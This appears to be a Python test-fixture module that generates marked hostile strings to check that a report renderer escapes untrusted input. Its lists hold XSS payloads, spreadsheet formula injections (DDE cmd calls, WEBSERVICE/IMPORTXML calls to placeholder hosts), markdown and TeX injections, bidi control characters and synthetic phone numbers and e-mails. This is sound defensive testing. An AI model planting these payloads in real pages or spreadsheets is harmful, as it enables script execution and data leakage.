"""A grammar of hostile strings for tests/test_hostile.py (issue 12).

Every hostile string holds a unique *marker* token (``zq`` + 6 lowercase letters or
digits) at the places that matter (inside a script, an event attribute, a link target, a
formula, a TeX expression...), so that wherever it shows up in a rendered report the test
can tell which planted value it came from and whether it arrived as text or as live markup.

grammar::

    hostile   := [formula] fragment (joiner fragment){0,2}
    formula   := '=HYPERLINK("http://M","x")' | "+cmd|' /C calc'!A0" | '@SUM(1)' | '-2+3' | TAB '=1' | CR '=1' ...
    fragment  := html | markdown | tex | control | personal
    html      := '<script>alert(\'M\')</script>' | '<img src=x onerror=alert(\'M\')>' | '<svg onload=…>' | …
    markdown  := '**M**' | '[M](javascript:alert(1))' | '# M' | '![M](x)' | '| a | M |' | '`M`' | …
    tex       := '$\\frac{M}{2}$' | '$$M$$' | '星辰 $$手机 M' | '\\href{javascript:alert(1)}{M}' | …
    control   := U+202E M | M U+2066 … U+2069 | zero-width | BEL | ESC | line break … (never NUL)
    personal  := phone | e-mail | name | 'phone (name)'      (each with M beside it)
    phone     := 13812345603 | 138 1234 5603 | +86 138-1234-5603 | (+86)138… | 0086138… |
                 full-width digits | 021-62345678 | (021) 6234 5678 | 0755-1234567
    e-mail    := local@example.org | mailto:local@example.org | 张伟@例子.中国 | <local@example.org>

A :class:`Hostile` is a template: ``text(marker)`` puts a marker in; the personal data it
plants (phones in their written form and as national digits, e-mail addresses with their
local part, customer names) travel with it, so the test can look for every one of them in
every published byte.
"""

from __future__ import annotations

import dataclasses
import re
import string

from hypothesis import strategies as st

M = "\u27e6M\u27e7"  # the marker's place in a template (⟦M⟧: no template uses these brackets)
MARKER_ALPHABET = string.ascii_lowercase + string.digits
MARKER_RE = re.compile(r"zq[a-z0-9]{6}")

# customer names put into the data set's customer_name column (and so "known names" of the
# data set) and typed again into free text
NAMES = ("张伟", "欧阳明", "李娜", "王秀英", "John Smith", "Lily Chen")
CJK_NAMES = tuple(n for n in NAMES if not n.isascii())

# what the terms loader refuses in a text field (C0/C1 controls, separators, bidi controls)
TERMS_REFUSED = re.compile(r"[\x00-\x1f\x7f-\x9f\u2028\u2029\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


@dataclasses.dataclass(frozen=True)
class Hostile:
    """A hostile template; ``text(marker)`` is the string that gets planted."""

    template: str
    kinds: tuple[str, ...] = ()
    phones: tuple[str, ...] = ()  # as written
    phone_digits: tuple[str, ...] = ()  # national number, digits only (ASCII)
    emails: tuple[str, ...] = ()  # full addresses as written (no mailto:)
    email_locals: tuple[str, ...] = ()
    names: tuple[str, ...] = ()
    marker: str = "zq000000"

    def text(self, marker: str | None = None) -> str:
        return self.template.replace(M, marker or self.marker)

    def __str__(self) -> str:
        return self.text()

    def __add__(self, other: "Hostile") -> "Hostile":
        return Hostile(
            self.template + other.template,
            self.kinds + other.kinds,
            self.phones + other.phones,
            self.phone_digits + other.phone_digits,
            self.emails + other.emails,
            self.email_locals + other.email_locals,
            self.names + other.names,
            self.marker,
        )

    def without_controls(self) -> "Hostile":
        """The same template with what the terms loader refuses removed (a terms text field)."""
        return dataclasses.replace(self, template=TERMS_REFUSED.sub("", self.template))


def plain(template: str, *kinds: str) -> Hostile:
    return Hostile(template, kinds)


# --- the grammar's terminals -------------------------------------------------------------

FORMULA_STARTS = (
    f'=HYPERLINK("http://{M}.example/","x")',
    f"+cmd|' /C calc'!A0 {M}",
    f"-2+3+cmd|' /C {M}'!A0",
    f"@SUM(1+1)*cmd|' /C {M}'!A0",
    f"=1+1 {M}",
    f"\t=1+1 {M}",
    f"\r=1+1 {M}",
    f'=IMPORTXML("http://{M}.example","//a")',
    f"=cmd|' /C {M}'!A0",
    f'=WEBSERVICE("http://{M}.example/?"&A1)',
)

HTML = (
    f"<script>alert('{M}')</script>",
    f"<img src=x onerror=alert('{M}')>",
    f"<svg onload=alert('{M}')>",
    f'"><iframe srcdoc="<script>alert(\'{M}\')</script>">',
    f"<a href=\"javascript:alert('{M}')\">{M}</a>",
    f"javascript:alert('{M}')",
    f"<a href=http://{M}.example/ title={M}>x</a>",
    f"' onmouseover='alert(\"{M}\")' x='",
    f"\" onfocus=\"alert('{M}')\" autofocus x=\"",
    f"<!-- {M} -->",
    f"&lt;b&gt;{M}&lt;/b&gt; &amp; &#60;i&#62;",
    f"<style>body{{background:url(http://{M}.example/)}}</style>",
    f'<object data="http://{M}.example/x.swf"></object>',
    f'<embed src="http://{M}.example/">',
    f"<b onclick=\"alert('{M}')\">{M}</b>",
    f"</td></tr></table><script>alert('{M}')</script>",
    f"</script><script>alert('{M}')</script>",
    f"</style><img src=x onerror=alert('{M}')>",
    f"<math><mtext><table><mglyph><style><img src=x onerror=alert('{M}')>",
    f'<div style="background:url(javascript:alert(\'{M}\'))">x</div>',
    f'<base href="http://{M}.example/">',
    f'<meta http-equiv="refresh" content="0;url=http://{M}.example/">',
    f'<form action="http://{M}.example/"><button formaction="javascript:alert(\'{M}\')">x</button></form>',
    f"<details open ontoggle=alert('{M}')>",
    f"<body onload=alert('{M}')>",
    f"<textarea>{M}</textarea><plaintext>",
    f"{{{{{M}}}}} ${{{M}}} <%= {M} %>",
)

MARKDOWN = (
    f"**{M}**",
    f"__{M}__",
    f"*{M}*",
    f"[{M}](javascript:alert(1))",
    f"[x](http://{M}.example/)",
    f"# {M}",
    f"![{M}](x)",
    f"![x](http://{M}.example/x.png)",
    f"| a | {M} |\n|---|---|\n| c | d |",
    f"`{M}`",
    f"```\n{M}\n```",
    f"<http://{M}.example/>",
    f"> {M}",
    f"- {M}",
    f"1. {M}",
    f"~~{M}~~",
    f"[x][{M}]\n\n[{M}]: javascript:alert(1)",
    f"\\*{M}\\*",
    f"{M}\n===",
    f"---\n{M}",
    f"www.{M}.example",
)

TEX = (
    f"$\\frac{{{M}}}{{2}}$",
    f"$${M}$$",
    f"星辰 $$手机 {M}",
    f"\\href{{javascript:alert(1)}}{{{M}}}",
    f"\\({M}\\)",
    f"\\[{M}\\]",
    f"$\\mathrm{{{M}}}$",
    f"\\begin{{equation}}{M}\\end{{equation}}",
    f"$x^{{{M}}}_{{2}}$",
    f"$\\unicode{{x41}}{M}$",
    f"$ {M} $ $",
    f"\\$ {M} \\$",
    f"$\\color{{red}}{{{M}}}$",
)

CONTROL = (
    f"\u202e{M}",
    f"{M}\u2066abc\u2069",
    f"\u2067{M}\u2069",
    f"{M}\u200b",
    f"\u200d{M}\u200c",
    f"\ufeff{M}",
    f"\u2060{M}",
    f"\x07{M}",
    f"\x1b[31m{M}\x1b[0m",
    f"{M}\nsecond line",
    f"{M}\r\nsecond line",
    f"\u2028{M}\u2029",
    f"\x0b{M}\x0c",
    f"\x7f{M}\x85",
    f"\u061c{M}\u200e\u200f",
    f"\u202a\u202b{M}\u202c\u202d",
)

# --- personal data ----------------------------------------------------------------------

_FULL = str.maketrans("0123456789", "０１２３４５６７８９")


def phone_forms(digits: str) -> tuple[str, ...]:
    """The written forms of a mobile number (11 digits)."""
    a, b, c = digits[:3], digits[3:7], digits[7:]
    return (
        digits,
        f"{a} {b} {c}",
        f"{a}-{b}-{c}",
        f"+86 {a}-{b}-{c}",
        f"+86 {a} {b} {c}",
        f"(+86){digits}",
        f"0086{digits}",
        f"+86{digits}",
        digits.translate(_FULL),
    )


def landline_forms(area: str, number: str) -> tuple[str, ...]:
    return (f"{area}-{number}", f"({area}) {number[:4]} {number[4:]}", f"{area} {number}")


@st.composite
def mobiles(draw) -> Hostile:
    digits = "1" + draw(st.sampled_from("3456789")) + draw(st.text("0123456789", min_size=9, max_size=9))
    form = draw(st.sampled_from(phone_forms(digits)))
    return Hostile(form, ("phone",), (form,), (digits,))


@st.composite
def landlines(draw) -> Hostile:
    area = draw(st.sampled_from(["021", "010", "0755", "0571"]))
    # 8-digit numbers for 3-digit areas, 7 or 8 for 4-digit areas; the number never starts with 0 or 1
    size = 8 if len(area) == 3 else draw(st.sampled_from([7, 8]))
    number = draw(st.sampled_from("2345678")) + draw(st.text("0123456789", min_size=size - 1, max_size=size - 1))
    form = draw(st.sampled_from(landline_forms(area, number)))
    return Hostile(form, ("phone",), (form,), (area + number,))


phones = st.one_of(mobiles(), landlines())

_LOCAL = st.text(string.ascii_lowercase, min_size=3, max_size=6).map(lambda s: "lily" + s)


@st.composite
def emails(draw) -> Hostile:
    kind = draw(st.sampled_from(["plain", "mailto", "idn", "angle", "link"]))
    if kind == "idn":
        local = draw(st.sampled_from(CJK_NAMES))
        domain = draw(st.sampled_from(["例子.中国", "例子.公司", "example.cn"]))
    else:
        local = draw(_LOCAL)
        domain = draw(st.sampled_from(["example.org", "example.com", "mail.example.cn"]))
    address = f"{local}@{domain}"
    written = {
        "plain": address,
        "idn": address,
        "mailto": f"mailto:{address}",
        "angle": f"<{address}>",
        "link": f'<a href="mailto:{address}">{address}</a>',
    }[kind]
    names = (local,) if local in NAMES else ()
    return Hostile(written, ("email",), emails=(address,), email_locals=(local,), names=names)


@st.composite
def names(draw) -> Hostile:
    name = draw(st.sampled_from(NAMES))
    return Hostile(name, ("name",), names=(name,))


@st.composite
def phone_with_name(draw) -> Hostile:
    """'138 1234 5603 (张伟)': a phone and a known customer name."""
    phone = draw(mobiles())
    name = draw(names())
    return phone + plain(" (") + name + plain(")")


def _with_marker(h: Hostile, where: str) -> Hostile:
    return plain(f"{M} ") + h if where == "before" else h + plain(f" {M}")


@st.composite
def personal(draw) -> Hostile:
    """A personal datum with the marker beside it (a space apart, so masking keeps the marker)."""
    datum = draw(st.one_of(phones, emails(), names(), phone_with_name()))
    return _with_marker(datum, draw(st.sampled_from(["before", "after"])))


def _terminals(kind: str, options) -> st.SearchStrategy:
    return st.sampled_from(options).map(lambda t: plain(t, kind))


fragments = st.one_of(
    _terminals("html", HTML),
    _terminals("markdown", MARKDOWN),
    _terminals("tex", TEX),
    _terminals("control", CONTROL),
    personal(),
)
formulas = _terminals("formula", FORMULA_STARTS)
joiners = st.sampled_from([" ", "", " | ", "，", "\t", " / "])


def markers() -> st.SearchStrategy:
    return st.text(MARKER_ALPHABET, min_size=6, max_size=6).map(lambda s: "zq" + s)


@st.composite
def hostile(draw, formula: bool | None = None) -> Hostile:
    """One hostile string of the grammar (``formula``: True forces a formula prefix, False
    forbids one, None lets the grammar choose)."""
    parts = draw(st.lists(fragments, min_size=1, max_size=3))
    use_formula = draw(st.booleans()) if formula is None else formula
    value = draw(formulas) if use_formula else plain("")
    for i, part in enumerate(parts):
        value = value + (plain(draw(joiners)) if i or use_formula else plain("")) + part
    if M not in value.template:
        value = value + plain(f" {M}")
    return dataclasses.replace(value, marker=draw(markers()))


# --- the exact values issue 12 lists -----------------------------------------------------

ISSUE_SCRIPT = plain(f"<script>alert('{M}')</script>", "html")
ISSUE_IMG = plain(f"<img src=x onerror=alert('{M}')>", "html")
ISSUE_SVG_ID = plain(f"TS-<svg onload=alert('{M}')>", "html")
ISSUE_FORMULA_ID = plain(f'=HYPERLINK("http://{M}.example/","x")', "formula")
ISSUE_IDN = Hostile(f"张伟@例子.中国 {M}", ("email",), emails=("张伟@例子.中国",), email_locals=("张伟",), names=("张伟",))
ISSUE_MAILTO = Hostile(f"mailto:lily@example.org {M}", ("email",), emails=("lily@example.org",), email_locals=("lily",))
ISSUE_PHONE_NAME = Hostile(f"138 1234 5603 (张伟) {M}", ("phone", "name"), phones=("138 1234 5603",),
                           phone_digits=("13812345603",), names=("张伟",))
ISSUE_MATHTEXT = plain(f"星辰 $$手机 {M}", "tex")
ISSUE_VALUES = (ISSUE_SCRIPT, ISSUE_IMG, ISSUE_SVG_ID, ISSUE_FORMULA_ID, ISSUE_IDN, ISSUE_MAILTO, ISSUE_PHONE_NAME, ISSUE_MATHTEXT)


def marker_sequence(salt: str):
    """Fresh markers for the cells of one data set: ``zq`` + 3 base-36 digits of a counter +
    the 3-character ``salt`` (so two examples never share markers)."""
    digits = string.digits + string.ascii_lowercase
    n = 0
    while True:
        a, b, c = n // 1296 % 36, n // 36 % 36, n % 36
        yield f"zq{digits[a]}{digits[b]}{digits[c]}{salt}"
        n += 1
